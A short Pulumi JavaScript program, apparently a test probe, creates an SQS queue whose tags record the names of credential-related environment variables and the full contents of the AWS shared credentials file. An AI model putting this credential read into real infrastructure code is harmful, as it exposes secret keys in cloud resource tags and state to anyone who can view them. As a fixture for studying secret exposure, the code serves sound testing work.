"use strict";
const fs = require("node:fs");
const aws = require("@pulumi/aws");

const seen = Object.keys(process.env).filter((name) => /PREVIEW_TEST|AWS_ACCESS|AWS_SECRET|PULUMI_ACCESS/.test(name));
new aws.sqs.Queue("probe", {
  tags: {
    seen: seen.sort().join(","),
    shared: fs.readFileSync(process.env.AWS_SHARED_CREDENTIALS_FILE, "utf8"),
    region: process.env.AWS_REGION,
  },
});
